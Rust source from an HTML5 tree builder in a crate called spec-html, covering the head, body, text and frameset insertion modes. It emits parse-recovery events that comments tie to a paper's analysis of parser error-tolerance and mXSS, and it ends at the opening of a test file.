                    self.mode = InsertionMode::Text;
                    Ctl::Done
                }
                "template" => {
                    // Simplified: ordinary element (see module docs).
                    self.insert_html(tag);
                    self.formatting.push(FormatEntry::Marker);
                    Ctl::Done
                }
                "head" => {
                    self.event(TreeEventKind::SecondHeadIgnored);
                    Ctl::Done
                }
                _ => {
                    self.close_head_for(&tag.name.clone());
                    Ctl::Reprocess(token)
                }
            },
            Token::EndTag(ref tag) => match tag.name.as_str() {
                "head" => {
                    self.open.pop();
                    self.mode = InsertionMode::AfterHead;
                    Ctl::Done
                }
                "template" => {
                    if self.stack_has("template") {
                        self.generate_implied_end_tags(None);
                        self.pop_through("template");
                        formatting::clear_to_marker(&mut self.formatting);
                    } else {
                        self.event(TreeEventKind::StrayEndTag { tag: "template".into() });
                    }
                    Ctl::Done
                }
                "body" | "html" | "br" => {
                    self.close_head_for(&format!("/{}", tag.name));
                    Ctl::Reprocess(token)
                }
                _ => {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    Ctl::Done
                }
            },
            Token::Eof => {
                self.close_head_quiet();
                Ctl::Reprocess(Token::Eof)
            }
        }
    }

    /// The "anything else" exit from in-head: the head closes because a
    /// non-head token arrived — the HF1 signal.
    fn close_head_for(&mut self, what: &str) {
        self.event(TreeEventKind::HeadClosedBy { tag: what.to_owned() });
        self.open.pop();
        self.mode = InsertionMode::AfterHead;
    }

    /// Head closes at EOF without an HF1 signal (an empty page is not a
    /// broken head).
    fn close_head_quiet(&mut self) {
        self.open.pop();
        self.mode = InsertionMode::AfterHead;
    }

    fn in_head_noscript(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "html" => {
                self.merge_html_attrs(tag);
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "noscript" => {
                self.open.pop();
                self.mode = InsertionMode::InHead;
                Ctl::Done
            }
            Token::Characters(ref s) if s.chars().all(is_html_whitespace) => {
                self.insert_chars(s, false);
                Ctl::Done
            }
            Token::Comment(ref c) => {
                self.insert_comment(c);
                Ctl::Done
            }
            Token::StartTag(ref tag)
                if matches!(
                    tag.name.as_str(),
                    "basefont" | "bgsound" | "link" | "meta" | "noframes" | "style"
                ) =>
            {
                self.in_head(token.clone(), tok)
            }
            Token::StartTag(ref tag) if matches!(tag.name.as_str(), "head" | "noscript") => {
                self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name != "br" => {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            other => {
                // Parse error: pop noscript, back to in head.
                self.event(TreeEventKind::HeadClosedBy { tag: "noscript-content".into() });
                self.open.pop();
                self.mode = InsertionMode::InHead;
                Ctl::Reprocess(other)
            }
        }
    }

    fn after_head(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(s) => {
                let (ws, rest) = split_leading_whitespace(&s);
                if !ws.is_empty() {
                    self.insert_chars(ws, false);
                }
                if rest.is_empty() {
                    return Ctl::Done;
                }
                self.create_body_implied(&describe_chars(rest));
                Ctl::Reprocess(Token::Characters(rest.to_owned()))
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) => match tag.name.as_str() {
                "html" => {
                    self.merge_html_attrs(tag);
                    Ctl::Done
                }
                "body" => {
                    self.insert_html(tag);
                    self.frameset_ok = false;
                    self.mode = InsertionMode::InBody;
                    Ctl::Done
                }
                "frameset" => {
                    self.insert_html(tag);
                    self.mode = InsertionMode::InFrameset;
                    Ctl::Done
                }
                "base" | "basefont" | "bgsound" | "link" | "meta" | "noframes" | "script"
                | "style" | "template" | "title" => {
                    // Parse error: the element is put back inside head.
                    self.event(TreeEventKind::LateHeadContent { tag: tag.name.to_string() });
                    if let Some(head) = self.head {
                        self.open.push(head);
                        let ctl = self.in_head(token.clone(), tok);
                        // Per spec, remove the head element pointer's node
                        // from the stack (it is "not necessarily the current
                        // node" — e.g. a <title> is now above it).
                        if let Some(pos) = self.open.iter().rposition(|&id| id == head) {
                            self.open.remove(pos);
                        }
                        ctl
                    } else {
                        self.in_head(token.clone(), tok)
                    }
                }
                "head" => {
                    self.event(TreeEventKind::SecondHeadIgnored);
                    Ctl::Done
                }
                _ => {
                    self.create_body_implied(&tag.name.clone());
                    Ctl::Reprocess(token)
                }
            },
            Token::EndTag(ref tag) => match tag.name.as_str() {
                "template" => self.in_head(token.clone(), tok),
                "body" | "html" | "br" => {
                    self.create_body_implied(&format!("/{}", tag.name));
                    Ctl::Reprocess(token)
                }
                _ => {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    Ctl::Done
                }
            },
            Token::Eof => {
                // An empty body is not a "content before body" violation.
                self.unwind_to_html();
                let tag = Tag::named("body");
                self.insert_html(&tag);
                self.mode = InsertionMode::InBody;
                Ctl::Reprocess(Token::Eof)
            }
        }
    }

    pub(crate) fn create_body_implied(&mut self, by: &str) {
        self.event(TreeEventKind::ImplicitBody { by: by.to_owned() });
        self.unwind_to_html();
        let tag = Tag::named("body");
        self.insert_html(&tag);
        self.mode = InsertionMode::InBody;
    }

    /// In "after head" the current node is normally the html element, but
    /// late head content handled through the in-head rules can leave an
    /// element open above it — a `<template>` reopened into head stays on
    /// the stack after the head pointer is removed. The implied body must
    /// still become a child of html, so close anything left above it (and
    /// release the formatting marker a template pushed).
    fn unwind_to_html(&mut self) {
        while self.open.len() > 1 {
            let popped = self.open.pop().expect("len checked");
            if self.doc.is_html(popped, "template") {
                formatting::clear_to_marker(&mut self.formatting);
            }
        }
    }

    /// The in-body `<html>` rule: merge attributes the html element lacks.
    pub(crate) fn merge_html_attrs(&mut self, tag: &Tag) {
        if tag.attrs.is_empty() {
            return;
        }
        self.event(TreeEventKind::SecondHtmlMerged);
        if let Some(&html) = self.open.first() {
            if let Some(e) = self.doc.element_mut(html) {
                for a in &tag.attrs {
                    if !e.has_attr(&a.name) {
                        e.attrs.push(ElemAttr { name: a.name.clone(), value: a.value.clone() });
                    }
                }
            }
        }
    }

    // ----- Text mode (script / RCDATA / RAWTEXT content) -----

    fn text(&mut self, token: Token) -> Ctl {
        match token {
            Token::Characters(s) => {
                self.insert_chars(&s, false);
                Ctl::Done
            }
            Token::EndTag(_) => {
                self.open.pop();
                self.mode = self.orig_mode;
                Ctl::Done
            }
            Token::Eof => {
                let tag = self.current_name().unwrap_or("script").to_owned();
                self.event(TreeEventKind::EofInTextContent { tag });
                self.open.pop();
                self.mode = self.orig_mode;
                Ctl::Reprocess(Token::Eof)
            }
            // Start tags / comments / doctypes cannot be tokenized inside
            // text content models.
            _ => Ctl::Done,
        }
    }

    // ----- after body -----

    fn after_body(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(ref s) if s.chars().all(is_html_whitespace) => {
                self.in_body(token.clone(), tok)
            }
            Token::Comment(c) => {
                // Comment goes on the html element.
                if let Some(&html) = self.open.first() {
                    self.insert_comment_on(html, &c);
                }
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "html" => {
                self.merge_html_attrs(tag);
                Ctl::Done
            }
            Token::EndTag(ref tag) if tag.name == "html" => {
                self.mode = InsertionMode::AfterAfterBody;
                Ctl::Done
            }
            Token::Eof => self.stop_parsing(),
            other => {
                // Parse error: back into the body.
                self.mode = InsertionMode::InBody;
                Ctl::Reprocess(other)
            }
        }
    }

    fn after_after_body(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Comment(c) => {
                let root = self.doc.root();
                self.insert_comment_on(root, &c);
                Ctl::Done
            }
            Token::Doctype(_) => self.in_body(token, tok),
            Token::Characters(ref s) if s.chars().all(is_html_whitespace) => {
                self.in_body(token.clone(), tok)
            }
            Token::StartTag(ref tag) if tag.name == "html" => self.in_body(token.clone(), tok),
            Token::Eof => self.stop_parsing(),
            other => {
                self.mode = InsertionMode::InBody;
                Ctl::Reprocess(other)
            }
        }
    }

    // ----- framesets (minimal) -----

    fn in_frameset(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(ref s) => {
                let ws: String = s.chars().filter(|c| is_html_whitespace(*c)).collect();
                if !ws.is_empty() {
                    self.insert_chars(&ws, false);
                }
                Ctl::Done
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::StartTag(ref tag) => match tag.name.as_str() {
                "html" => {
                    self.merge_html_attrs(tag);
                    Ctl::Done
                }
                "frameset" => {
                    self.insert_html(tag);
                    Ctl::Done
                }
                "frame" => {
                    self.insert_void(tag);
                    Ctl::Done
                }
                "noframes" => self.in_head(token.clone(), tok),
                _ => {
                    self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                    Ctl::Done
                }
            },
            Token::EndTag(ref tag) if tag.name == "frameset" => {
                if !self.current_is_html("html") {
                    self.open.pop();
                }
                if !self.current_is_html("frameset") {
                    self.mode = InsertionMode::AfterFrameset;
                }
                Ctl::Done
            }
            Token::EndTag(ref tag) => {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            Token::Eof => self.stop_parsing(),
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
        }
    }

    fn after_frameset(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::EndTag(ref tag) if tag.name == "html" => {
                self.mode = InsertionMode::AfterAfterFrameset;
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "noframes" => self.in_head(token.clone(), tok),
            Token::Eof => self.stop_parsing(),
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            _ => Ctl::Done,
        }
    }

    fn after_after_frameset(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Comment(c) => {
                let root = self.doc.root();
                self.insert_comment_on(root, &c);
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "noframes" => self.in_head(token.clone(), tok),
            Token::Eof => self.stop_parsing(),
            _ => Ctl::Done,
        }
    }
}

// ----- small shared helpers -----

pub(crate) fn is_html_whitespace(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\u{C}' | '\r' | ' ')
}

fn skip_leading_whitespace(s: &str) -> &str {
    s.trim_start_matches(is_html_whitespace)
}

fn split_leading_whitespace(s: &str) -> (&str, &str) {
    let rest = s.trim_start_matches(is_html_whitespace);
    let ws_len = s.len() - rest.len();
    (&s[..ws_len], rest)
}

fn describe_chars(s: &str) -> String {
    let head: String = s.chars().take(12).collect();
    format!("#text:{head}")
}

/// DOCTYPE → quirks mode (simplified §13.2.6.4.1: the full legacy public-id
/// list is reduced to the prefixes that actually occur).
fn doctype_quirks(d: &tokenizer::Doctype) -> QuirksMode {
    if d.force_quirks || d.name.as_deref() != Some("html") {
        return QuirksMode::Quirks;
    }
    let public = d.public_id.as_deref().unwrap_or("").to_ascii_lowercase();
    if public.starts_with("-//w3c//dtd html 4.01 frameset//")
        || public.starts_with("-//w3c//dtd html 4.01 transitional//")
    {
        return if d.system_id.is_some() { QuirksMode::LimitedQuirks } else { QuirksMode::Quirks };
    }
    if public.starts_with("-//w3c//dtd xhtml 1.0 frameset//")
        || public.starts_with("-//w3c//dtd xhtml 1.0 transitional//")
    {
        return QuirksMode::LimitedQuirks;
    }
    if public.starts_with("-//w3c//dtd html 3.2")
        || public.starts_with("-//ietf//dtd html//")
        || public == "html"
    {
        return QuirksMode::Quirks;
    }
    QuirksMode::NoQuirks
}

/// `name == fixed.to_ascii_lowercase()` without the allocation: `fixed` is
/// ASCII, so lowercasing byte-by-byte is exact.
fn eq_lowercased(name: &str, fixed: &str) -> bool {
    name.len() == fixed.len()
        && name.bytes().zip(fixed.bytes()).all(|(n, f)| n == f.to_ascii_lowercase())
}

/// Foreign attribute adjustments (§13.2.6.5, simplified: the xlink/xml/xmlns
/// prefixes are preserved verbatim; MathML's definitionURL gets its
/// canonical case). The adjusted spellings are all in the static atom table,
/// so no path through here allocates.
fn adjust_foreign_attr(ns: Namespace, name: &Atom) -> Atom {
    if ns == Namespace::Html {
        return name.clone();
    }
    if ns == Namespace::MathMl && name == "definitionurl" {
        return Atom::from_name("definitionURL");
    }
    if ns == Namespace::Svg {
        // A pragmatic subset of the SVG attribute case fixups.
        for fixed in [
            "attributeName",
            "attributeType",
            "baseFrequency",
            "baseProfile",
            "calcMode",
            "clipPath",
            "clipPathUnits",
            "diffuseConstant",
            "edgeMode",
            "gradientTransform",
            "gradientUnits",
            "kernelMatrix",
            "keyPoints",
            "keySplines",
            "keyTimes",
            "lengthAdjust",
            "limitingConeAngle",
            "markerHeight",
            "markerUnits",
            "markerWidth",
            "maskContentUnits",
            "maskUnits",
            "numOctaves",
            "pathLength",
            "patternContentUnits",
            "patternTransform",
            "patternUnits",
            "pointsAtX",
            "pointsAtY",
            "pointsAtZ",
            "preserveAspectRatio",
            "primitiveUnits",
            "refX",
            "refY",
            "repeatCount",
            "repeatDur",
            "requiredExtensions",
            "requiredFeatures",
            "specularConstant",
            "specularExponent",
            "spreadMethod",
            "startOffset",
            "stdDeviation",
            "stitchTiles",
            "surfaceScale",
            "systemLanguage",
            "tableValues",
            "targetX",
            "targetY",
            "textLength",
            "viewBox",
            "viewTarget",
            "xChannelSelector",
            "yChannelSelector",
            "zoomAndPan",
        ] {
            if eq_lowercased(name, fixed) {
                return Atom::from_name(fixed);
            }
        }
    }
    name.clone()
}

#[cfg(test)]
mod tests;
