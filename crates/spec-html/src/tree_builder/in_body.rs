//! The "in body" insertion mode (§13.2.6.4.7) — the main content mode, and
//! the home of most of the error-tolerance behaviours the paper's violations
//! exploit: the second-`<body>` attribute merge (HF3), the form element
//! pointer (DE4), the `<table>` hand-off (HF4), and the foreign-content
//! entry points (HF5 / mXSS).

use super::{is_html_whitespace, Builder, Ctl, InsertionMode, TreeEventKind};
use crate::dom::{ElemAttr, Namespace};
use crate::tags;
use crate::tokenizer::{self, Tag, Token, Tokenizer};

impl Builder {
    #[allow(clippy::too_many_lines)]
    pub(crate) fn in_body(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(s) => {
                // NULs were already reported by the tokenizer; in body they
                // are dropped. The common case has none — avoid the copy.
                let cleaned: std::borrow::Cow<'_, str> = if s.contains('\0') {
                    std::borrow::Cow::Owned(s.chars().filter(|&c| c != '\0').collect())
                } else {
                    std::borrow::Cow::Borrowed(&s)
                };
                if cleaned.is_empty() {
                    return Ctl::Done;
                }
                self.reconstruct_formatting();
                self.insert_chars(&cleaned, false);
                if cleaned.chars().any(|c| !is_html_whitespace(c)) {
                    self.frameset_ok = false;
                }
                Ctl::Done
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::Eof => self.stop_parsing(),
            Token::StartTag(ref tag) => self.in_body_start(tag, &token, tok),
            Token::EndTag(ref tag) => self.in_body_end(tag),
        }
    }

    #[allow(clippy::too_many_lines)]
    fn in_body_start(&mut self, tag: &Tag, token: &Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match tag.name.as_str() {
            "html" => {
                self.merge_html_attrs(tag);
                Ctl::Done
            }
            "base" | "basefont" | "bgsound" | "link" | "meta" | "noframes" | "script" | "style"
            | "template" | "title" => self.in_head(token.clone(), tok),
            "body" => {
                // HF3: merge the second body's attributes.
                let body = self.open.get(1).copied();
                if let Some(body) = body.filter(|&b| self.doc.is_html(b, "body")) {
                    let mut new_attrs = Vec::new();
                    let mut ignored = Vec::new();
                    if let Some(e) = self.doc.element_mut(body) {
                        for a in &tag.attrs {
                            if e.has_attr(&a.name) {
                                ignored.push(a.name.to_string());
                            } else {
                                new_attrs.push(a.name.to_string());
                                e.attrs.push(ElemAttr {
                                    name: a.name.clone(),
                                    value: a.value.clone(),
                                });
                            }
                        }
                    }
                    self.event(TreeEventKind::SecondBodyMerged {
                        new_attrs,
                        ignored_attrs: ignored,
                    });
                    self.frameset_ok = false;
                } else {
                    self.event(TreeEventKind::StrayStartTag { tag: "body".into() });
                }
                Ctl::Done
            }
            "frameset" => {
                // Only honoured when frameset_ok and the body can be
                // replaced; modern pages never hit the honoured path.
                self.event(TreeEventKind::StrayStartTag { tag: "frameset".into() });
                Ctl::Done
            }
            name if tags::closes_p(name)
                && !matches!(
                    name,
                    "li" | "dd"
                        | "dt"
                        | "table"
                        | "hr"
                        | "form"
                        | "plaintext"
                        | "xmp"
                        | "pre"
                        | "listing"
                        | "h1"
                        | "h2"
                        | "h3"
                        | "h4"
                        | "h5"
                        | "h6"
                ) =>
            {
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.insert_html(tag);
                self.check_self_closing(tag);
                Ctl::Done
            }
            "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => {
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                if matches!(self.current_name(), Some("h1" | "h2" | "h3" | "h4" | "h5" | "h6")) {
                    self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                    self.open.pop();
                }
                self.insert_html(tag);
                Ctl::Done
            }
            "pre" | "listing" => {
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.insert_html(tag);
                self.ignore_lf = true;
                self.frameset_ok = false;
                Ctl::Done
            }
            "form" => {
                if self.form.is_some() && !self.stack_has("template") {
                    // DE4: the nested form start tag is ignored outright.
                    self.event(TreeEventKind::NestedFormIgnored);
                    return Ctl::Done;
                }
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                let id = self.insert_html(tag);
                if !self.stack_has("template") {
                    self.form = Some(id);
                }
                Ctl::Done
            }
            "li" => {
                self.frameset_ok = false;
                let mut i = self.open.len();
                while i > 0 {
                    i -= 1;
                    let Some(name) = self.doc.html_name(self.open[i]).map(str::to_owned) else {
                        break;
                    };
                    if name == "li" {
                        self.generate_implied_end_tags(Some("li"));
                        self.pop_through("li");
                        break;
                    }
                    if tags::is_special(&name) && !matches!(name.as_str(), "address" | "div" | "p")
                    {
                        break;
                    }
                }
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.insert_html(tag);
                Ctl::Done
            }
            "dd" | "dt" => {
                self.frameset_ok = false;
                let mut i = self.open.len();
                while i > 0 {
                    i -= 1;
                    let Some(name) = self.doc.html_name(self.open[i]).map(str::to_owned) else {
                        break;
                    };
                    if name == "dd" || name == "dt" {
                        self.generate_implied_end_tags(Some(&name));
                        self.pop_through(&name);
                        break;
                    }
                    if tags::is_special(&name) && !matches!(name.as_str(), "address" | "div" | "p")
                    {
                        break;
                    }
                }
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.insert_html(tag);
                Ctl::Done
            }
            "plaintext" => {
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.insert_html(tag);
                tok.set_state(tokenizer::State::Plaintext);
                Ctl::Done
            }
            "button" => {
                if self.in_scope("button") {
                    self.event(TreeEventKind::StrayStartTag { tag: "button".into() });
                    self.generate_implied_end_tags(None);
                    self.pop_through("button");
                }
                self.reconstruct_formatting();
                self.insert_html(tag);
                self.frameset_ok = false;
                Ctl::Done
            }
            "a" => {
                // An open <a> since the last marker is a parse error: run
                // the adoption agency, then proceed.
                let open_a = self.formatting.iter().rev().find_map(|e| match e {
                    super::FormatEntry::Marker => Some(None),
                    super::FormatEntry::Element { node, tag } if tag.name == "a" => {
                        Some(Some(*node))
                    }
                    _ => None,
                });
                if let Some(Some(node)) = open_a {
                    self.event(TreeEventKind::AdoptionAgency { tag: "a".into() });
                    self.adoption_agency("a");
                    self.remove_from_formatting(node);
                    self.open.retain(|&n| n != node);
                }
                self.reconstruct_formatting();
                let id = self.insert_html(tag);
                self.push_formatting(id, tag);
                Ctl::Done
            }
            "b" | "big" | "code" | "em" | "font" | "i" | "s" | "small" | "strike" | "strong"
            | "tt" | "u" => {
                self.reconstruct_formatting();
                let id = self.insert_html(tag);
                self.push_formatting(id, tag);
                Ctl::Done
            }
            "nobr" => {
                self.reconstruct_formatting();
                if self.in_scope("nobr") {
                    self.event(TreeEventKind::StrayStartTag { tag: "nobr".into() });
                    self.adoption_agency("nobr");
                    self.reconstruct_formatting();
                }
                let id = self.insert_html(tag);
                self.push_formatting(id, tag);
                Ctl::Done
            }
            "applet" | "marquee" | "object" => {
                self.reconstruct_formatting();
                self.insert_html(tag);
                self.formatting.push(super::FormatEntry::Marker);
                self.frameset_ok = false;
                Ctl::Done
            }
            "table" => {
                if self.quirks != super::QuirksMode::Quirks && self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.insert_html(tag);
                self.frameset_ok = false;
                self.mode = InsertionMode::InTable;
                Ctl::Done
            }
            "area" | "br" | "embed" | "img" | "keygen" | "wbr" => {
                self.reconstruct_formatting();
                self.insert_void(tag);
                self.frameset_ok = false;
                Ctl::Done
            }
            "input" => {
                self.reconstruct_formatting();
                self.insert_void(tag);
                let hidden = tag
                    .attr_value("type")
                    .map(|t| t.eq_ignore_ascii_case("hidden"))
                    .unwrap_or(false);
                if !hidden {
                    self.frameset_ok = false;
                }
                Ctl::Done
            }
            "param" | "source" | "track" => {
                self.insert_void(tag);
                Ctl::Done
            }
            "hr" => {
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.insert_void(tag);
                self.frameset_ok = false;
                Ctl::Done
            }
            "image" => {
                // Spec: "Don't ask." Treat it as img.
                self.event(TreeEventKind::StrayStartTag { tag: "image".into() });
                let mut img = tag.clone();
                img.name = "img".into();
                self.reconstruct_formatting();
                self.insert_void(&img);
                self.frameset_ok = false;
                Ctl::Done
            }
            "textarea" => {
                self.insert_html(tag);
                self.ignore_lf = true;
                tok.set_state(tokenizer::State::Rcdata);
                tok.set_last_start_tag("textarea");
                self.frameset_ok = false;
                self.orig_mode = self.mode;
                self.mode = InsertionMode::Text;
                Ctl::Done
            }
            "xmp" => {
                if self.in_button_scope("p") {
                    self.close_p_element();
                }
                self.reconstruct_formatting();
                self.frameset_ok = false;
                self.generic_text_element(tag, tok, true);
                Ctl::Done
            }
            "iframe" => {
                self.frameset_ok = false;
                self.generic_text_element(tag, tok, true);
                Ctl::Done
            }
            "noembed" => {
                self.generic_text_element(tag, tok, true);
                Ctl::Done
            }
            "select" => {
                self.reconstruct_formatting();
                self.insert_html(tag);
                self.frameset_ok = false;
                self.mode = match self.mode {
                    InsertionMode::InTable
                    | InsertionMode::InCaption
                    | InsertionMode::InTableBody
                    | InsertionMode::InRow
                    | InsertionMode::InCell => InsertionMode::InSelectInTable,
                    _ => InsertionMode::InSelect,
                };
                Ctl::Done
            }
            "optgroup" | "option" => {
                if self.current_is_html("option") {
                    self.open.pop();
                }
                self.reconstruct_formatting();
                self.insert_html(tag);
                Ctl::Done
            }
            "rb" | "rtc" => {
                if self.in_scope("ruby") {
                    self.generate_implied_end_tags(None);
                }
                self.insert_html(tag);
                Ctl::Done
            }
            "rp" | "rt" => {
                if self.in_scope("ruby") {
                    self.generate_implied_end_tags(Some("rtc"));
                }
                self.insert_html(tag);
                Ctl::Done
            }
            "math" => {
                self.reconstruct_formatting();
                self.insert_element(tag, Namespace::MathMl, false);
                if tag.self_closing {
                    self.open.pop();
                }
                Ctl::Done
            }
            "svg" => {
                self.reconstruct_formatting();
                self.insert_element(tag, Namespace::Svg, false);
                if tag.self_closing {
                    self.open.pop();
                }
                Ctl::Done
            }
            "caption" | "col" | "colgroup" | "frame" | "head" | "tbody" | "td" | "tfoot" | "th"
            | "thead" | "tr" => {
                self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            _ => {
                self.reconstruct_formatting();
                self.insert_html(tag);
                self.check_self_closing(tag);
                Ctl::Done
            }
        }
    }

    fn in_body_end(&mut self, tag: &Tag) -> Ctl {
        match tag.name.as_str() {
            "body" => {
                if !self.in_scope("body") {
                    self.event(TreeEventKind::StrayEndTag { tag: "body".into() });
                    return Ctl::Done;
                }
                self.mode = InsertionMode::AfterBody;
                Ctl::Done
            }
            "html" => {
                if !self.in_scope("body") {
                    self.event(TreeEventKind::StrayEndTag { tag: "html".into() });
                    return Ctl::Done;
                }
                self.mode = InsertionMode::AfterBody;
                Ctl::Reprocess(Token::EndTag(tag.clone()))
            }
            "address" | "article" | "aside" | "blockquote" | "button" | "center" | "details"
            | "dialog" | "dir" | "div" | "dl" | "fieldset" | "figcaption" | "figure" | "footer"
            | "header" | "hgroup" | "listing" | "main" | "menu" | "nav" | "ol" | "pre"
            | "search" | "section" | "summary" | "ul" => {
                if !self.in_scope(&tag.name) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    return Ctl::Done;
                }
                self.generate_implied_end_tags(None);
                self.pop_through(&tag.name);
                Ctl::Done
            }
            "form" => {
                let node = self.form.take();
                match node {
                    Some(node) if self.open.contains(&node) && self.in_scope("form") => {
                        self.generate_implied_end_tags(None);
                        if self.current() != Some(node) {
                            self.event(TreeEventKind::StrayEndTag { tag: "form".into() });
                        }
                        // Remove the node (not pop-through): content after a
                        // misplaced </form> must keep its position.
                        self.open.retain(|&n| n != node);
                    }
                    _ => {
                        self.event(TreeEventKind::StrayEndTag { tag: "form".into() });
                    }
                }
                Ctl::Done
            }
            "p" => {
                if !self.in_button_scope("p") {
                    self.event(TreeEventKind::StrayEndTag { tag: "p".into() });
                    let p = Tag::named("p");
                    self.insert_html(&p);
                }
                self.close_p_element();
                Ctl::Done
            }
            "li" => {
                if !self.in_list_item_scope("li") {
                    self.event(TreeEventKind::StrayEndTag { tag: "li".into() });
                    return Ctl::Done;
                }
                self.generate_implied_end_tags(Some("li"));
                self.pop_through("li");
                Ctl::Done
            }
            "dd" | "dt" => {
                if !self.in_scope(&tag.name) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    return Ctl::Done;
                }
                self.generate_implied_end_tags(Some(&tag.name));
                self.pop_through(&tag.name);
                Ctl::Done
            }
            "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => {
                let hs = ["h1", "h2", "h3", "h4", "h5", "h6"];
                if !self.any_in_scope(&hs) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    return Ctl::Done;
                }
                self.generate_implied_end_tags(None);
                while let Some(id) = self.open.pop() {
                    if matches!(self.doc.html_name(id), Some(n) if hs.contains(&n)) {
                        break;
                    }
                }
                Ctl::Done
            }
            "a" | "b" | "big" | "code" | "em" | "font" | "i" | "nobr" | "s" | "small"
            | "strike" | "strong" | "tt" | "u" => {
                if !self.adoption_agency(&tag.name) {
                    self.any_other_end_tag(&tag.name);
                }
                Ctl::Done
            }
            "applet" | "marquee" | "object" => {
                if !self.in_scope(&tag.name) {
                    self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                    return Ctl::Done;
                }
                self.generate_implied_end_tags(None);
                self.pop_through(&tag.name);
                super::formatting::clear_to_marker(&mut self.formatting);
                Ctl::Done
            }
            "br" => {
                // </br> behaves like <br>.
                self.event(TreeEventKind::StrayEndTag { tag: "br".into() });
                self.reconstruct_formatting();
                let br = Tag::named("br");
                self.insert_void(&br);
                self.frameset_ok = false;
                Ctl::Done
            }
            "template" => {
                if self.stack_has("template") {
                    self.generate_implied_end_tags(None);
                    self.pop_through("template");
                    super::formatting::clear_to_marker(&mut self.formatting);
                } else {
                    self.event(TreeEventKind::StrayEndTag { tag: "template".into() });
                }
                Ctl::Done
            }
            _ => {
                self.any_other_end_tag(&tag.name);
                Ctl::Done
            }
        }
    }

    /// "Any other end tag" in body: walk the stack; matching name closes it
    /// (with implied end tags); hitting a special element first means the
    /// end tag is stray and ignored.
    pub(crate) fn any_other_end_tag(&mut self, name: &str) {
        let mut i = self.open.len();
        while i > 0 {
            i -= 1;
            let id = self.open[i];
            let Some(e) = self.doc.element(id) else { break };
            if e.ns == Namespace::Html && e.name == name {
                self.generate_implied_end_tags(Some(name));
                if self.current() != Some(id) {
                    self.event(TreeEventKind::StrayEndTag { tag: name.to_owned() });
                }
                while let Some(popped) = self.open.pop() {
                    if popped == id {
                        break;
                    }
                }
                return;
            }
            if e.ns == Namespace::Html && tags::is_special(&e.name) {
                self.event(TreeEventKind::StrayEndTag { tag: name.to_owned() });
                return;
            }
        }
        self.event(TreeEventKind::StrayEndTag { tag: name.to_owned() });
    }

    /// Close an open `p` element (§13.2.6.4.7 "close a p element").
    pub(crate) fn close_p_element(&mut self) {
        self.generate_implied_end_tags(Some("p"));
        self.pop_through("p");
    }
}
