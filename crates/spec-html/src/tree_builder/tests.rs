//! Tree-builder tests: structural construction, every recovery event the
//! checkers depend on, and the paper's concrete payloads (Figures 1–5).

use super::*;
use crate::parse_document as parse_doc;
use crate::serializer::serialize;

fn body_html(input: &str) -> String {
    let out = parse_doc(input);
    let body = out.dom.find_html("body").expect("body exists");
    crate::serializer::serialize_children(&out.dom, body)
}

fn has_event(out: &ParseOutput, pred: impl Fn(&TreeEventKind) -> bool) -> bool {
    out.events.iter().any(|e| pred(&e.kind))
}

// ----- basic structure -----

#[test]
fn minimal_document_gets_html_head_body() {
    let out = parse_doc("hello");
    let dom = &out.dom;
    assert!(dom.find_html("html").is_some());
    assert!(dom.find_html("head").is_some());
    let body = dom.find_html("body").unwrap();
